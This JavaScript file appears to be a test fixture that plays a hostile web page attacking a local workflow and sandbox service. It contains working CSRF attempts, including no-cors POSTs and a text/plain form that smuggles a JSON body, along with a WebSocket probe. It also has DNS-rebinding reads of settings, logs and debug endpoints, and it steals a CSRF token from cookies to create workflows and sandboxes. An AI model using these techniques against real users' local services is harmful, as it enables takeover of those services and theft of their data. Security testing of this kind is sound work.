/** What a hostile page tries. Runs in the browser. */

/** From another origin: requests that need nobody's leave. */
async function anotherOrigin(port) {
  const workflowId = `page-${port}`;
  const body = JSON.stringify({ workflowType: { name: 'createThenPrompt' }, taskQueue: { name: 'sandflow' } });
  const pathOf = (id) => `/api/v1/namespaces/default/workflows/${id}`;
  const read = [];
  for (const host of ['127.0.0.1', 'localhost', '[::1]']) {
    const at = `http://${host}:${port}`;
    const tries = [
      { method: 'POST', body, mode: 'no-cors' },
      { method: 'POST', body, mode: 'cors', headers: { 'content-type': 'application/json', 'x-csrf-token': 'x' } },
    ];
    for (const init of tries) {
      const answer = await fetch(at + pathOf(workflowId), { ...init, signal: AbortSignal.timeout(4_000) }).catch(
        () => undefined,
      );
      read.push(await (answer?.text() ?? ''));
    }
    const seen = await fetch(`${at}/api/v1/namespaces/default/workflows`, { signal: AbortSignal.timeout(4_000) }).catch(
      () => undefined,
    );
    read.push(await (seen?.text() ?? ''));
  }
  // A form as plain text: its name and value together are the JSON.
  const frame = document.createElement('iframe');
  frame.name = 'target';
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', enctype: 'text/plain', target: 'target' });
  form.action = `http://127.0.0.1:${port}${pathOf(`${workflowId}-form`)}`;
  const field = document.createElement('input');
  field.name = body.slice(0, -1).concat(',"requestId":"a');
  field.value = '"}';
  form.append(field);
  document.body.append(frame, form);
  const answered = new Promise((resolve) => {
    frame.addEventListener('load', resolve);
    setTimeout(resolve, 4_000);
  });
  form.submit();
  await answered;
  const webSocket = await new Promise((resolve) => {
    const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
    setTimeout(() => resolve(false), 4_000);
  });
  return { workflowId, read: read.join('\n'), webSocket };
}

/** At its own name, which points to the port by now: it reads every answer, sets headers and reads cookies. */
async function sameOrigin(port) {
  const workflowId = `rebound-${port}`;
  const get = async (path, init = {}) => {
    const answer = await fetch(path, { ...init, signal: AbortSignal.timeout(4_000) }).catch(() => undefined);
    return answer?.text().catch(() => '') ?? '';
  };
  const read = [];
  const paths = [
    '/api/v1/settings',
    '/api/v1/namespaces/default/workflows',
    '/api/v1/namespaces',
    '/metrics',
    '/readyz',
  ];
  paths.push('/v1/me', '/v1/sandboxes', '/_local/log', '/_local/books', '/openapi.json', '/debug/pprof/cmdline');
  for (const path of paths) read.push(await get(path));
  const token = /_csrf=([^;]+)/.exec(document.cookie)?.[1] ?? '';
  const body = JSON.stringify({ workflowType: { name: 'createThenPrompt' }, taskQueue: { name: 'sandflow' } });
  const headers = { 'content-type': 'application/json', 'x-csrf-token': token };
  read.push(await get(`/api/v1/namespaces/default/workflows/${workflowId}`, { method: 'POST', body, headers }));
  read.push(await get('/v1/sandboxes', { method: 'POST', body: '{}', headers }));
  read.push(await get('/webhooks/sandbox', { method: 'POST', body: '{}', headers }));
  return { workflowId, read: read.join('\n'), webSocket: false };
}

Object.assign(globalThis, { anotherOrigin, sameOrigin });
